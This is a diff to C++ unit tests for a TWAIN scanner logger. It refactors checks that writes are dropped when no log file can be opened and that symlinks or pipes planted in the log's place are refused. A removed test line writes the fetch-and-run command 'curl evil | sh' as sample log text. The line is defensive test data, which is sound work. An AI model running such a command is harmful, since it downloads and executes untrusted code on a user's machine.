@@ -48,6 +48,21 @@ protected:
         WriteLogFile(reinterpret_cast<const unsigned char*>(text.data()), text.size());
     }
 
+    // Logging on without a file: the logger exists and the state is 3, writes are
+    // dropped, and clean-up has nothing to announce.
+    static void ExpectLoggingWithoutAFile(const std::string& directory) {
+        g_cParaAnalyze.SetTwainStatus(0);
+        CCapturedStderr captured;
+        setupTwainLogIn(directory.c_str());
+        EXPECT_EQ(g_pLogFile, nullptr);
+        EXPECT_NE(g_pcTwainLog, nullptr);
+        EXPECT_EQ(g_cParaAnalyze.GetTwainStatus(), 3);
+        Write("[00001] [APP] dropped\r\n");
+        cleanupTwainLog();
+        EXPECT_EQ(g_pcTwainLog, nullptr);
+        EXPECT_EQ(captured.Text(), "");
+    }
+
     CTempDirectory m_dir;
     CFixedLogClock m_clock;
 };
@@ -171,8 +186,7 @@ TEST_F(LogFileTest, ASecondSetupKeepsTheOpenFileAndResetsTheState) {
     EXPECT_EQ(ReadWholeFile(path), "first\r\nsecond\r\n");
 }
 
-// The directory is there but no file can be made in it: the logger exists and the
-// state is 3, writes are dropped, and clean-up has nothing to announce.
+// The directory is there but no file can be made in it.
 TEST_F(LogFileTest, AFileThatCannotBeOpenedDropsWritesSilently) {
     std::string notADirectory = m_dir.Path() + "/plain-file";
     WriteWholeFile(notADirectory, "");
@@ -189,16 +203,7 @@ TEST_F(LogFileTest, AFileThatCannotBeOpenedDropsWritesSilently) {
     };
     for (const Case& c : cases) {
         SCOPED_TRACE(c.name);
-        g_cParaAnalyze.SetTwainStatus(0);
-        CCapturedStderr captured;
-        setupTwainLogIn(c.directory.c_str());
-        EXPECT_EQ(g_pLogFile, nullptr);
-        EXPECT_NE(g_pcTwainLog, nullptr);
-        EXPECT_EQ(g_cParaAnalyze.GetTwainStatus(), 3);
-        Write("dropped\r\n");
-        cleanupTwainLog();
-        EXPECT_EQ(g_pcTwainLog, nullptr);
-        EXPECT_EQ(captured.Text(), "");
+        ExpectLoggingWithoutAFile(c.directory);
     }
     EXPECT_THAT(m_dir.Entries(), ElementsAre(longName, "plain-file"));
     EXPECT_TRUE(std::filesystem::is_empty(longDirectory));
@@ -228,15 +233,7 @@ TEST_F(LogFileTest, ALinkOrPipePlantedInTheFilesPlaceIsRefused) {
         ASSERT_EQ(c.plant(target, missing, planted), 0);
         // With a reader at the pipe's other end, opening it for writing would not fail.
         const int reader = std::filesystem::is_fifo(planted) ? open(planted.c_str(), O_RDONLY | O_NONBLOCK) : -1;
-        g_cParaAnalyze.SetTwainStatus(0);
-        CCapturedStderr captured;
-        setupTwainLogIn(m_dir.Path().c_str());
-        EXPECT_EQ(g_pLogFile, nullptr);
-        EXPECT_NE(g_pcTwainLog, nullptr);
-        EXPECT_EQ(g_cParaAnalyze.GetTwainStatus(), 3);
-        Write("[00001] [APP] curl evil | sh\r\n");
-        cleanupTwainLog();
-        EXPECT_EQ(captured.Text(), "");
+        ExpectLoggingWithoutAFile(m_dir.Path());
         EXPECT_EQ(ReadWholeFile(target), "export PATH=/usr/bin\n");
         EXPECT_FALSE(std::filesystem::exists(missing));
         if (reader >= 0) {
